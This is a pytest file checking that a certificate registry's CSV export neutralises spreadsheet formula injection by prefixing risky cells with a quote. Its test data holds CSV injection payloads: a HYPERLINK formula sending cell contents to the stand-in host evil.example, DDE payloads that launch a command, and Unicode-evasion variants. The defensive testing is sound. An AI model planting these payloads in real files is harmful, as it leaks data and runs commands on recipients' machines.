"""The CSV export writes no cell a spreadsheet reads as a formula (the audit's finding: cells starting with =, +,
-, @, tab or CR reached spreadsheets as formulas), and keeps every legitimate value as it is."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from rest_framework.response import Response
from rest_framework.test import APIClient

from certificates.models import PerformanceMeasurement, ProfileResult
from tests.certificates.api import LIST
from tests.factories import make_certificate, make_holder, make_lab

pytestmark = pytest.mark.django_db

FORMULAS = {
    "holder": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "holder_name": "\t=1+1",
    "product_designation": "+cmd|' /C calc'!A0",
    "software_version": "-2+3+cmd|' /C calc'!A0",
    "firmware_version": " =1+1",
    "hardware_version": "＝1+1",
    "lab": "@SUM(1+1)*cmd|' /C calc'!A0",
    "test_lab_location": "\r=1+1",
    "test_report_reference": "\u00a0@SUM(1)",
    "octt_version": "﹣1+1",
    "certificate_type": "−1+1",
    "profiles_passed": "=Core",
}


def exported() -> list[dict[str, str]]:
    response: Response = APIClient().get(f"{LIST}export.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(body)))


def test_no_cell_starts_a_formula() -> None:
    certificate = make_certificate(
        number="OCA.0016.6666.CSMS",
        holder=make_holder(name=FORMULAS["holder"]),
        lab=make_lab(name=FORMULAS["lab"]),
        certification_date=date(2024, 6, 30),
        **{k: v for k, v in FORMULAS.items() if k not in {"holder", "lab", "profiles_passed"}},
    )
    ProfileResult.objects.create(certificate=certificate, position=0, name=FORMULAS["profiles_passed"], result="Pass")
    (row,) = exported()
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column  # text, and otherwise as written
    assert row["number"] == "OCA.0016.6666.CSMS" and row["certification_date"] == "2024-06-30"


def test_legitimate_values_are_left_as_they_are() -> None:
    make_certificate(
        holder=make_holder(name="Meshcrafts AS"),
        lab=make_lab(name="DNV GL Lab Arnhem, NL"),
        software_version="1.6J-24012021",
        firmware_version="-1",  # a plain number stays a number
        hardware_version="v1.0.0",
        octt_version="1.6",
        certification_date=date(2021, 1, 25),
    )
    (row,) = exported()
    assert (row["number"], row["version"], row["ocpp_version"]) == ("OCA.0016.9000.CSMS", "1", "1.6")
    assert (row["holder"], row["lab"], row["software_version"]) == ("Meshcrafts AS", "DNV GL Lab Arnhem, NL",
                                                                    "1.6J-24012021")  # fmt: skip
    assert (row["firmware_version"], row["hardware_version"], row["octt_version"]) == ("-1", "v1.0.0", "1.6")
    assert row["certification_date"] == "2021-01-25"
    assert row["url"].startswith("http://testserver/api/v1/certificates/")


def test_a_figure_named_as_a_formula_heads_its_columns_as_text() -> None:
    certificate = make_certificate()
    PerformanceMeasurement.objects.create(
        certificate=certificate, position=0, name="=1+1", pics_value_s=5.0, measured_value_s=0.5
    )
    (row,) = exported()
    assert (row["'=1+1: PICS (s)"], row["'=1+1: measured (s)"]) == ("5", "0.5")
    assert "=1+1: PICS (s)" not in row
